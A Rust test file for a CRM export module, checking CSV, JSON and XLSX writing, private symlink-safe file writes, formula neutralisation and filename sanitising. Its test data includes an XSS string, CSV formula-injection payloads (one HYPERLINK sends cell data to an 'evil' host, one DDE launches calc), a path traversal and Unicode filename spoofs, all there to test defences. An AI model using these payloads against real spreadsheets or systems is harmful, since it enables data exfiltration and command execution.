//! Exports: CSV/JSON/XLSX writing, cells a spreadsheet would run, suggested file names, private whole-file writes.

use super::*;
use crate::integration::Integration;
use crate::item::ItemKind;

fn items() -> Vec<IntegrationItem> {
    let mut a = IntegrationItem::new(
        Integration::Hubspot,
        "1",
        ItemKind::Contact,
        "Ada, \"the\" first",
    );
    a.url = Some("https://app.hubspot.com/contacts/1/record/0-1/1".into());
    vec![
        a,
        IntegrationItem::new(
            Integration::Hubspot,
            "2",
            ItemKind::Deal,
            "<img src=x onerror=alert(1)>",
        ),
    ]
}

#[test]
fn csv_quotes_and_keeps_every_item() {
    let mut out = Vec::new();
    write_items(&mut out, ExportFormat::Csv, &items()).unwrap();
    let text = String::from_utf8(out).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][3], "Ada, \"the\" first");
    assert_eq!(&rows[1][3], "<img src=x onerror=alert(1)>");
}

#[cfg(unix)]
#[test]
fn an_export_is_private_and_never_follows_a_planted_link() {
    use std::os::unix::fs::PermissionsExt;
    let dir = std::env::temp_dir().join(format!("inlet-export-modes-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let victim = dir.join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    for format in [ExportFormat::Csv, ExportFormat::Xlsx] {
        let path = dir.join(format!("items.{}", format.extension()));
        let partial = dir.join(format!(".items.{}.partial", format.extension()));
        std::os::unix::fs::symlink(&victim, &partial).unwrap();
        export_to_path(&path, format, &items()).unwrap();
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{format:?}");
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    }
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_text() {
    let evil = [
        "=HYPERLINK(\"https://evil/?\"&B2,\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ];
    let items: Vec<IntegrationItem> = evil
        .iter()
        .map(|name| IntegrationItem::new(Integration::Hubspot, "1", ItemKind::Contact, *name))
        .chain([IntegrationItem::new(
            Integration::Hubspot,
            "2",
            ItemKind::Contact,
            "Ada = 1",
        )])
        .collect();
    let mut out = Vec::new();
    write_items(&mut out, ExportFormat::Csv, &items).unwrap();
    let mut reader = csv::Reader::from_reader(out.as_slice());
    let names: Vec<String> = reader.records().map(|r| r.unwrap()[3].to_owned()).collect();
    for (name, written) in evil.iter().zip(&names) {
        assert_eq!(written, &format!("'{name}"));
    }
    assert_eq!(names[6], "Ada = 1", "only a leading character counts");
}

#[test]
fn json_and_ndjson_round_trip() {
    let mut json = Vec::new();
    write_items(&mut json, ExportFormat::Json, &items()).unwrap();
    let parsed: Vec<IntegrationItem> = serde_json::from_slice(&json).unwrap();
    assert_eq!(parsed, items());
    let mut ndjson = Vec::new();
    write_items(&mut ndjson, ExportFormat::Ndjson, &items()).unwrap();
    let lines: Vec<IntegrationItem> = String::from_utf8(ndjson)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines, items());
    let mut empty = Vec::new();
    write_items(&mut empty, ExportFormat::Json, &[]).unwrap();
    assert_eq!(
        serde_json::from_slice::<Vec<IntegrationItem>>(&empty).unwrap(),
        vec![]
    );
}

#[test]
fn files_are_written_whole_or_not_at_all() {
    let dir = std::env::temp_dir().join(format!("inlet-export-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    for format in [
        ExportFormat::Csv,
        ExportFormat::Json,
        ExportFormat::Ndjson,
        ExportFormat::Xlsx,
    ] {
        let path = dir.join(format!("items.{}", format.extension()));
        assert_eq!(export_to_path(&path, format, &items()).unwrap(), 2);
        let bytes = std::fs::read(&path).unwrap();
        assert!(!bytes.is_empty());
        if format == ExportFormat::Xlsx {
            assert_eq!(&bytes[..2], b"PK", "an xlsx is a zip");
        }
    }
    let leftovers: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().ends_with(".partial"))
        .collect();
    assert!(leftovers.is_empty());
    let missing_dir = dir.join("no/such/dir/items.csv");
    assert_eq!(
        export_to_path(&missing_dir, ExportFormat::Csv, &items())
            .unwrap_err()
            .code(),
        "io_error"
    );
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn unknown_formats_are_refused() {
    assert_eq!(
        "xml".parse::<ExportFormat>().unwrap_err().code(),
        "invalid_argument"
    );
    assert_eq!("CSV".parse::<ExportFormat>().unwrap(), ExportFormat::Csv);
}

#[test]
fn csv_cells_never_run_as_formulas_and_numbers_stay_numbers() {
    for live in [
        "=HYPERLINK(\"http://evil.example\")",
        "  =1+1",
        "\n=cmd|' /C calc'!A0",
        "\t@SUM(A1)",
        "\r+1+1",
        "-2+3",
        "＝1+1",
        "@user",
        "-",
    ] {
        assert_eq!(inert(live.to_owned()), format!("'{live}"), "{live:?}");
    }
    for kept in [
        "-5", "+3.25", "-1e6", "2.5E-3", " -7 ", "Ada", "a=b", "42", "-.5x",
    ] {
        let expected = if kept == "-.5x" {
            format!("'{kept}")
        } else {
            kept.to_owned()
        };
        assert_eq!(inert(kept.to_owned()), expected, "{kept:?}");
    }
}

#[test]
fn suggested_file_names_hide_nothing() {
    let name = |text: &str| suggested_file_name(text, ExportFormat::Csv);
    assert_eq!(name("invoice\u{202E}fdp.exe"), "invoicefdp.exe.csv");
    assert_eq!(name("\u{2067}Deals\u{2069} \u{200B}Q3"), "Deals Q3.csv");
    assert_eq!(name("../../etc/passwd"), "_.._etc_passwd.csv");
    assert_eq!(name("a\nb:c"), "a_b_c.csv");
    assert_eq!(name("\u{202E}"), "Inlet export.csv");
    // Tag characters carry hidden text; they go too.
    assert_eq!(name("report\u{E0041}\u{E0042}\u{E007F}"), "report.csv");
    assert_eq!(name("Ünïcödé 表"), "Ünïcödé 表.csv");
}
